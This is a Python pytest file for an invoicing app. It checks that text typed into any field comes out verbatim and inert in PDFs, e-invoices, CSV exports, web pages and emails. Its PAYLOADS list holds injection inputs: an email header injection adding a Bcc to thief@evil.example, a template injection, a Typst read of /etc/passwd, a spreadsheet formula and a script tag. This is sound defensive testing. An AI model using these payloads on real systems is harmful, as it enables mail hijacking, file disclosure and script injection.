"""What somebody types into any field that a document or its mail prints arrives there as text (T36-T39, M8)."""

import csv
import html
import io
import re
from typing import Any

import pytest
from django.db import models
from django.urls import reverse
from lxml import etree
from lxml import html as pages

from accounts.tests.factories import AddressFactory, SellerFactory, UserFactory
from core import jobs
from invoices.documents.archive import read_document
from invoices.documents.einvoice import cii_of
from invoices.documents.source import payload_of
from invoices.models import Document, Invoice, InvoiceLine
from invoices.tests.factories import InvoiceFactory
from invoices.tests.test_documents_render import squeezed, text_of
from profiles.tests.factories import BillingProfileFactory, ProfileRoleFactory

PAYLOADS = {
    "header": "x\r\nBcc: thief@evil.example ",
    "template": "{{ 7|add:7 }}{% debug %} ",
    "typst": '#read("/etc/passwd") ',
    "formula": "=HYPERLINK(1) ",
    "HTML": "<script>alert(1)</script> ",
}
# Not free text: made by the portal, or held to a form that none of the payloads has.
OF_A_FORM = {
    "invoice": {
        "code", "number", "kind", "status", "currency", "vat_currency", "customer_vat_id", "language",
    },
    "line": {"vat_category"},
    "address": {"country"},
    "seller": {"country", "vat_id", "iban", "bic", "logo", "accent", "email"},
}  # fmt: skip
# Kept with the invoice and printed nowhere.
UNPRINTED = {"seller.phone", "line.service_name"} | {
    f"{party}.{name}" for party in ("sold_to", "bill_to", "ship_to") for name in ("email", "phone")
}


def text_fields(model: type[models.Model], group: str) -> list[str]:
    fields = [field.name for field in model._meta.concrete_fields if isinstance(field, models.CharField)]
    return [name for name in fields if name not in OF_A_FORM[group]]


def typed(payload: str) -> tuple[dict[str, str], dict[str, Any]]:
    """Every field by its name with what is typed into it, and the values of an invoice that holds it all."""
    marks: dict[str, str] = {}

    def mark(name: str) -> str:
        return marks.setdefault(name, f"{payload}Q{len(marks):02}Q")

    def copy(name: str, group: str, kept: dict[str, str]) -> dict[str, str]:
        return {key: value if key in OF_A_FORM[group] else mark(f"{name}.{key}") for key, value in kept.items()}

    values: dict[str, Any] = {name: mark(name) for name in text_fields(Invoice, "invoice")}
    for party in ("sold_to", "bill_to", "ship_to"):
        values[party] = copy(party, "address", AddressFactory(country="NL").snapshot())
    values["seller"] = copy("seller", "seller", SellerFactory().snapshot())
    values["lines"] = [
        {"net_minor": 100, **{name: mark(f"line.{name}") for name in text_fields(InvoiceLine, "line")}},
    ]
    return marks, values


@pytest.mark.django_db(transaction=True)
@pytest.mark.long(sample=2)
@pytest.mark.parametrize("kind", PAYLOADS)
def test_T36_T37_T38_T39_what_is_typed_into_any_field_arrives_as_text(kind, client, mail_server, settings, tmp_path):
    settings.MEDIA_ROOT = tmp_path
    marks, values = typed(PAYLOADS[kind])
    profile = BillingProfileFactory(sends_invoices=True)
    marks["person"] = f"{PAYLOADS[kind]}Q{len(marks)}Q"
    person = ProfileRoleFactory(profile=profile, user=UserFactory(name=marks["person"])).user
    invoice = InvoiceFactory(profile=profile, **values)

    jobs.run_due(only=["invoices.make_documents", "invoices.address_dispatches", "core.send_messages"])
    client.force_login(person)
    page = client.get(invoice.get_absolute_url()).text
    sheet = client.get(reverse("invoice_csv", args=[invoice.code])).content.decode("utf-8-sig")
    cells = [cell for row in csv.reader(io.StringIO(sheet)) for cell in row]
    pdf, ubl = (read_document(Document.objects.get(invoice=invoice, kind=kind)) for kind in ("pdf", "ubl"))
    [mail] = mail_server.received
    mail_page = mail.get_body(["html"]).get_content()
    outputs = {
        "pdf": text_of(pdf),
        "ubl": " ".join(etree.fromstring(ubl).itertext()),
        "cii": " ".join(etree.fromstring(cii_of(payload_of(invoice))).itertext()),
        "csv": " ".join(cells),
        "page": pages.fromstring(page).text_content(),
        "mail": " ".join([mail["Subject"], mail.get_body(["plain"]).get_content()]),
        "page of the mail": pages.fromstring(mail_page).text_content(),
    }

    # As it was typed, wherever it stands.
    texts = {name: as_printed(text) for name, text in outputs.items()}
    found = {field: [name for name, text in texts.items() if mark_of(field, marks) in text] for field in marks}
    assert {field for field, places in found.items() if not places} == UNPRINTED & set(marks)
    wrong = [
        (field, name)
        for field, places in found.items()
        for name in places
        if as_printed(marks[field]) not in texts[name]
    ]
    assert wrong == []

    # And nothing was made of it.
    assert "root:" not in outputs["pdf"]
    assert [cell for cell in cells if cell.startswith(("=", "+", "@"))] == []
    for written in (page, mail_page):
        assert "<script>alert" not in written
    assert mail.get_all("To") == [person.email]
    assert mail["Bcc"] is None
    assert len(mail["Subject"].splitlines()) == 1


def mark_of(field: str, marks: dict[str, str]) -> str:
    return marks[field][-4:].casefold()


def as_printed(text: str) -> str:
    """Without white space, which a document breaks elsewhere, and in one case, as a city may stand in capitals."""
    return squeezed(html.unescape(re.sub(r"[\x00-\x1f]", " ", text))).casefold()
